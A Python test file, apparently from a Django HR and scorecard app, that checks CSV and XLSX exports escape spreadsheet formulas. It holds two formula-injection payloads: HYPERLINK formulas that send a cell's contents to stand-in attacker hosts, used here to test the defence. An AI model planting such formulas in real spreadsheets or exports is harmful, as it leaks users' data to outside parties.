"""Issue 8, finding 10: no cell of an exported CSV or XLSX is a live formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from django.conf import settings
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from org.tasks import employee_directory_export
from scorecard.models import ItemKind
from scorecard.services.actuals_import import import_template
from spm.exports import FORMULA_STARTS, safe_cell
from spm.jobs import job_create
from spm.models import Job
from tests.conftest import Cast
from tests.factories_tracking import unit_scorecard

HOSTILE = '=HYPERLINK("http://evil.example/?"&A2,"MW")'
# The unit of measure is a 40-character column (PostgreSQL enforces it, SQLite does not).
HOSTILE_UNIT = '=HYPERLINK("http://ev.il/?"&A2,"MW")'


@given(st.text())
def test_a_safe_cell_never_starts_like_a_formula(text: str) -> None:
    cell = safe_cell(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell in (text, "'" + text)


@pytest.mark.parametrize("value", [42, None, 1.5])
def test_numbers_and_empty_cells_pass_unchanged(value: object) -> None:
    assert safe_cell(value) == value


def _xlsx_texts(content: bytes) -> list[str]:
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_the_import_template_writes_a_hostile_unit_of_measure_as_text(cast: Cast, fmt: str) -> None:
    scorecard = unit_scorecard(cast.engineering)
    assert len(HOSTILE_UNIT) <= 40
    scorecard.items.filter(kind=ItemKind.QUANTITATIVE).update(unit_of_measure=HOSTILE_UNIT)
    content, _type, _name = import_template(
        actor=cast.manager.user, year=scorecard.year, month=1, fmt=fmt
    )
    if fmt == "xlsx":
        texts = _xlsx_texts(content)
    else:
        texts = [c for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for c in row]
    assert "'" + HOSTILE_UNIT in texts
    assert not any(t.startswith("=") for t in texts)


@pytest.mark.django_db
def test_the_directory_export_writes_a_hostile_job_title_as_text(cast: Cast) -> None:
    cast.employee.job_title = HOSTILE
    cast.employee.save()
    job = job_create(
        kind="employee_export", user=cast.hr.user, params={}, task=employee_directory_export
    )
    employee_directory_export(job.pk)
    job.refresh_from_db()
    assert job.status == Job.Status.DONE, job.error
    content = (Path(settings.MEDIA_ROOT) / str(job.result_file.name)).read_bytes()
    texts = _xlsx_texts(content)
    assert "'" + HOSTILE in texts
    assert not any(t.startswith("=") for t in texts)
